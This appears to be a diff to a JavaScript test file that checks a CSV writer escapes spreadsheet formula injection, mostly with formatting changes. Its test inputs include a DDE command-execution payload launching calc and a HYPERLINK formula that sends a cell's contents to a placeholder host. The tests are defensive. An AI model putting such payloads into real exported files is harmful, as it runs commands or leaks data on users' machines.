@@ -42,19 +42,35 @@ const STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"
 const PASSED_OVER = ["", " ", "\u00a0", "\u3000", "\ufeff", "\t ", "\0"];
 
 t.test("what a spreadsheet would run is made a text", async (t) => {
-  for (const blank of PASSED_OVER)
-    for (const start of STARTS)
+  for (const blank of PASSED_OVER) {
+    for (const start of STARTS) {
       for (const rest of ["", "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1,"y")', "1,=2", "1\r\n=2"]) {
         const text = blank + start + rest;
         const [field, next, ...more] = fieldsOf(csvRow(TWO, [text, "housing"]));
         t.equal(field, `'${text}`, JSON.stringify(text));
         t.same([next, ...more], ["housing"], "and nothing of it gets into the next field");
       }
+    }
+  }
 });
 
 t.test("numbers and plain texts stay as they are", async (t) => {
-  for (const value of [0, -1, 7700, 0.25, -12.5, true, "-3", "housing", "a=b", "2026-11-23T09:00:00.000Z", " text", ""])
+  for (const value of [
+    0,
+    -1,
+    7700,
+    0.25,
+    -12.5,
+    true,
+    "-3",
+    "housing",
+    "a=b",
+    "2026-11-23T09:00:00.000Z",
+    " text",
+    "",
+  ]) {
     t.same(fieldsOf(csvRow(ANY, value)), [String(value)]);
+  }
   for (const nothing of [null, undefined]) t.equal(csvRow(ANY, nothing), "\r\n");
   // No number as a whole, however it begins.
   for (const text of ["-1-1", "-1\n", "--1", "-1e9", "-"]) t.same(fieldsOf(csvRow(ANY, text)), [`'${text}`]);
